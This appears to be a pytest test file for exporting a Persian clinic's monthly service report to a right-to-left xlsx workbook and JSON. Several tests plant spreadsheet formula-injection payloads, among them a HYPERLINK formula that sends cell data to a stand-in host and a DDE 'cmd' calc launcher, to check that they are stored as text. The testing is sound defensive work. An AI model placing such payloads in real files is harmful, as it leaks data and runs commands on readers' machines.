"""The monthly report as rows: to_table_rows, xlsx (right-to-left sheet) and JSON."""

from __future__ import annotations

import dataclasses
import io
import json

import openpyxl
import pytest

from app.printing import samples
from app.printing.data import MONTHLY_ROW_COLUMNS, ClientMonthRow
from app.printing.export import JSON_FORMAT, monthly_report_json, monthly_report_xlsx


@pytest.fixture(scope="module")
def report():
    data = samples.sample_monthly_report(12)
    empty = ClientMonthRow("11-22222", "1405-0999", "سینا یزدانی", "مریم صالحی", [])
    return dataclasses.replace(data, clients=[*data.clients, empty])


def _expected_rows(report) -> int:
    return sum(max(1, len(c.services)) for c in report.clients)


def test_table_rows_one_per_service_and_one_for_a_client_without_service(report):
    rows = report.to_table_rows()
    assert len(rows) == _expected_rows(report)
    keys = [k for k, _ in MONTHLY_ROW_COLUMNS]
    assert all(list(row) == keys for row in rows)
    last = rows[-1]
    assert last["full_name"] == "سینا یزدانی" and last["kind"] == "" and last["minutes"] == 0
    first_service = report.clients[0].services[0]
    first = next(r for r in rows if r["row"] == 1)
    assert first["date"] == first_service.date.isoformat()
    assert first["date_jalali"].startswith("1405/08/")
    assert first["kind"] == first_service.kind_label


def test_data_is_frozen(report):
    with pytest.raises(dataclasses.FrozenInstanceError):
        report.year = 1400


def test_xlsx_is_right_to_left_with_persian_headers(report, tmp_path):
    path = tmp_path / "report.xlsx"
    monthly_report_xlsx(report, path)
    book = openpyxl.load_workbook(path)
    sheet = book["خدمات"]
    assert sheet.sheet_view.rightToLeft is True
    assert [c.value for c in sheet[1]] == [title for _, title in MONTHLY_ROW_COLUMNS]
    assert sheet.max_row == 1 + _expected_rows(report)
    assert book["خلاصه"].sheet_view.rightToLeft is True
    identity = {row[0]: row[1] for row in book["مشخصات گزارش"].iter_rows(min_row=2, values_only=True)}
    assert identity["شناسه گزارش"] == report.report_id


def test_xlsx_to_a_file_object(report):
    out = io.BytesIO()
    monthly_report_xlsx(report, out)
    assert out.getvalue()[:2] == b"PK"


def test_json_round_trip(report):
    document = json.loads(monthly_report_json(report).decode("utf-8"))
    assert document["format"] == JSON_FORMAT
    assert document["report_id"] == report.report_id
    assert document["rows"] == json.loads(json.dumps(report.to_table_rows()))
    assert document["contract"]["fee_per_case_month_rials"] == 120_000
    assert "logo_path" not in document["clinic"]
    concerns = document["summary"]["abuse_concerns"]
    assert all(set(c) == {"file_number", "date", "action_note"} for c in concerns)
    assert "سینا یزدانی" in monthly_report_json(report).decode("utf-8")


def test_no_cell_of_the_monthly_workbook_is_a_formula():
    import io

    from openpyxl import load_workbook

    from app.printing.data import ServiceLine
    from app.printing.export import monthly_report_xlsx
    from app.printing.samples import sample_monthly_report
    import dataclasses
    import datetime as dt
    data = sample_monthly_report(2)
    row = data.clients[0]
    planted = ServiceLine(date=dt.date(2026, 11, 1), kind_label="مشاوره", mode_label="تلفنی", minutes=10,
                          summary_text='=HYPERLINK("http://x.example/?"&B2,"باز کنید")')
    row = dataclasses.replace(row, full_name="@SUM(1+1)", services=[planted])
    data = dataclasses.replace(data, clients=[row] + data.clients[1:])
    out = io.BytesIO()
    monthly_report_xlsx(data, out)
    book = load_workbook(io.BytesIO(out.getvalue()))
    cells = [c for sheet in book.worksheets for r in sheet.iter_rows() for c in r]
    planted_cells = [c for c in cells if c.value in ('=HYPERLINK("http://x.example/?"&B2,"باز کنید")', "@SUM(1+1)")]
    # Kept exactly as written, stored as text with Excel's quote prefix (never a formula).
    assert len(planted_cells) == 2 and all(c.data_type == "s" and c.quotePrefix for c in planted_cells)
    assert all(c.data_type != "f" for c in cells)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_stored_as_a_text_cell_in_the_monthly_workbook(start):
    """Whatever writer makes the workbook: a name or note beginning with any of = + - @ tab CR is
    a shared/inline *string* cell in the file's XML (t="s" or t="inlineStr"), never a formula
    (<f>), and reads back as the very text, marked with Excel's quote prefix."""
    import datetime as dt
    import re
    import zipfile

    from app.printing.data import ServiceLine
    planted = f'{start}HYPERLINK("http://x.example/?"&B2,"باز کنید")'
    data = samples.sample_monthly_report(2)
    line = ServiceLine(date=dt.date(2026, 11, 1), kind_label="مشاوره", mode_label="تلفنی", minutes=10,
                       summary_text=planted)
    client = dataclasses.replace(data.clients[0], full_name=f"{start}SUM(1+1)", social_worker=f"{start}1+2",
                                 services=[line])
    data = dataclasses.replace(data, clients=[client, *data.clients[1:]], generated_by=f"{start}cmd|' /C calc'!A0")
    out = io.BytesIO()
    monthly_report_xlsx(data, out)
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(re.search(r"<f[ >]", xml) for xml in sheets)
    book = openpyxl.load_workbook(io.BytesIO(out.getvalue()))
    cells = [c for sheet in book.worksheets for r in sheet.iter_rows() for c in r if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    # A carriage return is stored as OOXML's escape «_x000D_» (Excel reads it back as CR; openpyxl does not).
    looking = {c.value.replace("_x000D_", "\r"): c for c in cells if c.data_type == "s"}
    for value in (planted, f"{start}SUM(1+1)", f"{start}1+2", f"{start}cmd|' /C calc'!A0"):
        # kept exactly as written, with Excel's quote prefix (app.printing.cells)
        assert value in looking and looking[value].quotePrefix, value


def test_workbook_written_row_by_row_in_a_folder_is_the_same_and_safe(report, tmp_path, monkeypatch):
    """Given the data folder, the workbook streams its rows through temporary files made there
    (never the system's temporary folder: they hold names), with the same cells as in memory."""
    import tempfile

    made_in: list[str] = []
    real = tempfile.mkstemp

    def spy(*args, **kwargs):
        made_in.append(str(kwargs.get("dir")))
        return real(*args, **kwargs)

    monkeypatch.setattr(tempfile, "mkstemp", spy)
    planted = dataclasses.replace(report.clients[0], full_name="=HYPERLINK(\"http://x.example\")")
    data = dataclasses.replace(report, clients=[planted, *report.clients[1:]])
    in_memory, streamed = io.BytesIO(), io.BytesIO()
    monthly_report_xlsx(data, in_memory)
    monthly_report_xlsx(data, streamed, tmpdir=tmp_path)
    assert made_in and set(made_in) == {str(tmp_path)}
    assert list(tmp_path.iterdir()) == []  # nothing left behind

    def cells(blob):
        book = openpyxl.load_workbook(io.BytesIO(blob.getvalue()))
        return [[(c.value, c.data_type) for c in row] for sheet in book.worksheets for row in sheet.iter_rows()]

    assert cells(streamed) == cells(in_memory)
    assert ("=HYPERLINK(\"http://x.example\")", "s") in [cell for row in cells(streamed) for cell in row]


def test_monthly_json_is_byte_for_byte_what_json_dumps_writes(report):
    """The JSON is written row by row, and its bytes (whose SHA-256 is the printed code's digest)
    are exactly those of the whole document dumped at once."""
    from app.printing.export import JSON_VERSION, payable_case_months  # noqa: F401
    written = monthly_report_json(report)
    document = json.loads(written)
    assert document["rows"] == json.loads(json.dumps(report.to_table_rows()))
    assert written == json.dumps(document, ensure_ascii=False, indent=1).encode("utf-8")
    empty = dataclasses.replace(report, clients=[])
    assert json.loads(monthly_report_json(empty))["rows"] == []
    assert b'"rows": []' in monthly_report_json(empty)


def test_monthly_json_rows_with_awkward_text_are_what_json_dumps_writes(report):
    """The rows are written by the report's own row writer: quotes, backslashes, new lines,
    control characters, isolates, emoji and a text that looks like the JSON itself come out as
    json.dumps writes them (the bytes are the digest printed in the QR code)."""
    awkward = ['"نقل" قول', "back\\slash", "خط\nدوم\r\tسوم", "\x01\x1f\x7f", "\u2066۰۲۱-۸۸\u2069",
               "😀 ZWNJ\u200cمی‌شود", '"rows": [', "", " "]
    clients = []
    for i, text in enumerate(awkward):
        base = report.clients[i % len(report.clients)]
        services = [dataclasses.replace(s, summary_text=text, minutes=-i if i % 2 else 10**12)
                    for s in (base.services or [])]
        clients.append(dataclasses.replace(base, full_name=text or base.full_name, services=services,
                                           priority=bool(i % 2)))
    data = dataclasses.replace(report, clients=clients, generated_by='"rows-' + "0" * 32 + '"',
                               correction_reason="rows-marker")
    written = monthly_report_json(data)
    document = json.loads(written)
    assert written == json.dumps(document, ensure_ascii=False, indent=1).encode("utf-8")
    assert document["rows"] == json.loads(json.dumps(data.to_table_rows()))
    assert [c.full_name for c in clients] == list(dict.fromkeys(r["full_name"] for r in document["rows"]))
